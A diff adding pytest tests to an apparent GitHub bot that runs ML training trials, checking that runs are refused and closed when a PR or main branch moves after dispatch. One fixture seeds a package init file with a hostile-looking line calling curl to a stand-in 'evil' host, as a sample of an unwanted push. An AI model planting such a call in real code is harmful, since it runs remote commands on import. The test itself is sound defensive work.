@@ -535,3 +535,69 @@ def test_a_forged_calibration_run_gives_no_band(gh, forge, tmp_path) -> None:
                          attempt=1, job_wall_s=3600.0, policy=flow.policy, lessons=[])
     state = flow.state()
     assert state.calibrated and state.loss_band is None and "refused" in state.calibration_note and "hook" in state.calibration_note
+
+
+def check_then_report(flow: Flow, inputs: dict[str, str]) -> tuple[str, str]:
+    """trial.yml as it is: ``check`` (the real check-trial on the dispatched inputs), then -- ok or refused -- the
+    report job, which feeds a refusal back with check's reason (nothing ran, no artifact)."""
+    from bot.github.check_trial import check_trial
+
+    lines, reason = check_trial(flow.forge, pr=int(inputs["pr"]), sha=inputs["sha"], campaign=inputs["campaign"],
+                                kind=inputs["kind"], recipe=inputs["recipe"], runner_labels=inputs["runner_labels"],
+                                limits=inputs["limits"])
+    assert "ok=false" in lines and f"reason={reason}" in lines
+    empty = flow.tmp / f"refused-{len(flow.trials())}"
+    empty.mkdir()
+    out = trial_results.handle(flow.forge, empty, campaign=inputs["campaign"], issue=int(inputs["issue"]), pr=int(inputs["pr"]),
+                               sha=inputs["sha"], kind=inputs["kind"], attempt=int(inputs["attempt"]), run_job_result="skipped",
+                               check_refused=reason, policy=flow.policy, lessons=[])
+    return reason, out
+
+
+def test_a_trial_check_refused_closes_the_step_with_the_reason_instead_of_waiting(gh, forge, tmp_path) -> None:
+    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100), change("activation_checkpoint", "full", "none")))
+    flow.through_calibration()
+    trial = flow.last
+    pr = int(trial["pr"])
+    # someone pushes code onto the step branch after the bot dispatched its trial: check refuses the dispatched sha
+    gh.seed({"bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "a person's push", branch=gh.pulls[pr].head_ref)
+
+    reason, out = check_then_report(flow, trial)
+
+    assert f"PR #{pr} head is" in reason and "refused by check" in out
+    run = flow.state().step(1).runs[0]
+    assert run.outcome == "crash" and run.reason == f"check refused the run: {reason}" and run.record == ""
+    assert gh.pulls[pr].state == "closed" and gh.pulls[pr].merged_at is None
+    closing = next(c for c in flow.bot_comments(pr) if "closed" in c.splitlines()[0])
+    assert "check refused the run" in closing
+    assert flow.last["kind"] == "trial" and int(flow.last["pr"]) != pr  # the campaign went on with the next step
+    # the same refusal delivered again changes nothing
+    dispatches = len(gh.dispatches)
+    assert check_then_report(flow, trial)[1].startswith("ignored")
+    assert len(gh.dispatches) == dispatches
+
+
+def test_a_calibration_check_refused_gives_no_band_and_goes_on(gh, forge, tmp_path) -> None:
+    flow = Flow(gh, forge, tmp_path, Scripted(change("training.gc_freq", 50, 100)))
+    flow.start()
+    flow.answer(record(flow.recipe, 1000.0, run_id="b1"))
+    flow.answer(record(flow.recipe, 1010.0, run_id="b2"))
+    cal = flow.last
+    gh.seed({"README.md": "main moved on\n"}, "a merge")  # the dispatched sha is no longer main's head
+
+    reason, out = check_then_report(flow, cal)
+
+    assert "is not the head of main" in reason and "calibration refused by check" in out
+    state = flow.state()
+    assert state.calibrated and state.loss_band is None and "check refused the calibration run" in state.calibration_note
+    assert flow.last["kind"] == "trial"
+
+
+@pytest.mark.parametrize("issue", ["none", "plain"])
+def test_a_refused_dispatch_of_no_campaign_is_ignored(gh, forge, tmp_path, issue) -> None:
+    """A dispatch anyone with write access made up (no such issue, or an issue without a campaign)."""
+    number = 99 if issue == "none" else gh.add_issue("a question", "hello", user="alice")
+    out = trial_results.handle(forge, tmp_path, campaign="nobody", issue=number, pr=5, sha="e" * 40, kind="trial", attempt=1,
+                               run_job_result="skipped", check_refused="PR #5 is not from an attune/ branch")
+    assert out.startswith("ignored: check refused a run of no campaign")
+    assert gh.dispatches == [] and gh.comments == {}
